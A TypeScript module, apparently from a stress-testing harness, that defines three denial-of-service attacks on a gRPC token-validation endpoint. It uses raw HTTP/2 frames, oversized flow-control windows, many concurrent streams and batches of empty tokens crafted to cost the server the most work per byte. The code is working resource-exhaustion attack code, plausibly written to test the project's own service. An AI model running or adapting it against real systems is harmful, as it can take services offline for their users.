import { type Attack, callHeaders } from "./attack.js";
import { FLAG, frame, number32, setting, TYPE } from "./frames.js";
import type { RawConnection } from "./raw-connection.js";

const INITIAL_WINDOW_SIZE = 4;
const STREAMS = 100;
/** The headers that make a call a batch. */
export const BATCH = { ":path": "/securetoken.v1.TokenService/BatchValidateTokens" };

/** Batches of the most tokens in the fewest bytes: 3 KB for 20 ms of work. */
export const costlyBatches: Attack = {
  name: "batches of 1,000 bad tokens",
  connections: 4,
  staysOpen: true,
  run: (connection) => sendBatches(connection, 1_000),
};

/** Batches that one turn of the event loop has room for, and many of them. */
export const smallBatches: Attack = {
  name: "batches of 60 bad tokens",
  connections: 4,
  staysOpen: true,
  run: (connection) => sendBatches(connection, 60),
};

/** Far more tokens than a batch may have, each of one byte: what costs is to read them. */
export const overfullBatches: Attack = {
  name: "batches of 500,000 tokens",
  connections: 4,
  staysOpen: true,
  run: (connection) => sendBatches(connection, 500_000, 4),
};

/** Keeps as many batches under way as the connection may have. */
async function sendBatches(connection: RawConnection, tokens: number, streams = STREAMS) {
  const largest = frame(TYPE.windowUpdate, 0, 0, number32(2 ** 30));
  await connection.begin(setting(INITIAL_WINDOW_SIZE, 2 ** 30), largest);
  const body = dataFrames(batchOf(tokens));
  for (let id = 1; connection.going; id += 2) {
    await connection.write(Buffer.concat([callHeaders(id, false, BATCH), ...body(id)]));
    while (connection.going && (id + 1) / 2 - connection.streamsEnded >= streams) {
      await connection.wait(1);
    }
  }
}

/** A batch of gRPC, of tokens without a character. */
export function batchOf(tokens: number): Buffer {
  const message = Buffer.alloc(5 + 2 * tokens);
  message.writeUInt32BE(2 * tokens, 1);
  // Field 1, no characters.
  for (let at = 5; at < message.length; at += 2) message[at] = 0x0a;
  return message;
}

/** A message in frames of the largest size, the last of which ends the stream. */
export function dataFrames(message: Buffer): (id: number) => Buffer[] {
  const size = 16_384;
  const count = Math.ceil(message.length / size);
  return (id) =>
    Array.from({ length: count }, (_, i) => {
      const flags = i === count - 1 ? FLAG.endStream : 0;
      return frame(TYPE.data, flags, id, message.subarray(i * size, (i + 1) * size));
    });
}
